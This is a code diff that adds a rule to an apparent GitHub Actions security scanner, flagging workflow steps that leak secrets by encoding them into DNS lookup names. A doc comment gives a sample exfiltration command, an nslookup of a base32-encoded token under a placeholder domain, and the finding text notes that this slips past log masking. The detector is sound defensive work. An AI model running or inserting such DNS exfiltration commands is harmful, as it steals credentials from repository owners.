@@ -1,3 +1,4 @@
+import { dnsLookupInShell } from '../code/dns-exfiltration.js';
 import { ipInHostname, isPrivateAddress } from '../code/network-endpoints.js';
 import { makeFinding } from '../finding.js';
 import { lineOf } from '../util.js';
@@ -589,6 +590,30 @@ function readsRunnerMemory(ctx: RuleContext, where: string, jobId: string, scrip
   );
 }
 
+/**
+ * A secret or the environment written into the name a DNS lookup asks for (`nslookup "$(echo
+ * $T | base32).x.tld"`): the lookup carries it to that domain's name server, no HTTP client needed.
+ */
+function dnsSent(ctx: RuleContext, where: string, jobId: string, line: string, env: ReadonlyMap<string, string>, assigned: ReadonlyMap<string, Assigned>): void {
+  const kind = ctx.workflow.kind;
+  const lookup = dnsLookupInShell(line, (name) => {
+    const value = env.get(name);
+    return (value !== undefined && (credentialsIn(value, kind).length > 0 || dumpsAllSecrets(value))) || (assigned.get(name)?.secrets.length ?? 0) > 0;
+  });
+  if (lookup === null || (lookup.data !== 'secret' && lookup.data !== 'environment' && credentialsIn(line, kind).length === 0)) return;
+  ctx.findings.push(
+    makeFinding({
+      id: 'gha-secrets-exfiltration',
+      severity: 'critical',
+      title: `Secrets are sent out in a DNS lookup of *.${lookup.domain}`,
+      detail: `${where} looks up a name built from ${lookup.data === 'environment' ? 'the whole environment (every secret the step can see)' : 'a secret'} in front of ${lookup.domain}: the lookup carries those labels to that domain's name server, with no HTTP request to notice, and GitHub's log masking never sees them. Fix: remove the step; if it ran, rotate every secret it could see.`,
+      path: ctx.path,
+      line: lineOf(ctx.content, line.trim()),
+      subject: `${jobId}:dns:${line.trim()}`,
+    }),
+  );
+}
+
 export function secretRules(ctx: RuleContext): void {
   const kind = ctx.workflow.kind;
   for (const job of ctx.workflow.jobs) {
@@ -601,6 +626,7 @@ export function secretRules(ctx: RuleContext): void {
         const assigned = new Map<string, Assigned>();
         for (const line of script.split('\n')) {
           noteAssignment(line, env, assigned, kind);
+          dnsSent(ctx, where, job.id, line, env, assigned);
           if (!NETWORK_COMMAND.test(line)) continue;
           const secretVars = [...shellVariablesIn(line)].filter((name) => {
             const value = env.get(name);
